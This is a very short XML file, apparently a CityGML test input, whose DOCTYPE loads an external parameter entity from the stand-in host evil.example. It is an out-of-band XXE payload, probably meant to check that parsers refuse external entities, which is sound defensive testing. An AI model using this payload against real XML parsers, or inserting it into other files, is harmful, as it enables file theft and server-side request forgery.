<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>
<core:CityModel xmlns:core="http://www.opengis.net/citygml/2.0"/>